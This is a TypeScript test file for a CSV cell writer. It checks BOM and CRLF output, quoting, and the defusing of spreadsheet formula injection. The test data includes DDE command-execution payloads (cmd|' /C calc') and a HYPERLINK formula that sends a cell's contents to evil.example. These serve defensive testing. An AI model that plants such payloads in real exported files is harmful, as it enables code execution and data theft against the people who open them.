import { describe, expect, it } from 'vitest'
import { csvCell } from './csv'
import { csvWriter } from './csv'

describe('csv text', () => {
  it('begins with a byte order mark and ends each row with CR LF', async () => {
    const maker = csvWriter({ name: '', titles: ['编号', '名称'], widths: [] })
    await maker.add([
      ['1', ''],
      ['2', 'x'],
    ])
    const bytes = new Uint8Array(await (await maker.finish()).arrayBuffer())
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)).toBe('\ufeff编号,名称\r\n1,\r\n2,x\r\n')
  })

  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['a;b', '"a;b"'],
    ['say "hi"', '"say ""hi"""'],
    ['one\ntwo', '"one\ntwo"'],
    ['one\r\ntwo', '"one\r\ntwo"'],
    [' x ', '" x "'],
    ['', ''],
  ])('quotes %j as %j', (text, cell) => expect(csvCell(text)).toBe(cell))

  it.each(['5', '-5', '+5', '-0.25', '1e5', '-1.5E-7', '2024-01-01', 'a=b', '10:30', '张三 - 李四'])('leaves %j a value', (text) =>
    expect(csvCell(text)).toBe(text),
  )

  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"open")',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\tx',
    '\rx',
    '\nx',
    '＝1+1',
    '＋1',
    '－1+1',
    '＠SUM(1)',
    '"=1+1',
    '\u0000=1',
    '\ufeff=1',
    '\u200b=1',
    '+86 138',
    '--1',
    '=',
    '-',
    '@',
  ])('writes %j as text', (text) => {
    const cell = csvCell(text)
    const read = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell
    expect(read).toBe(`'${text}`)
  })
})
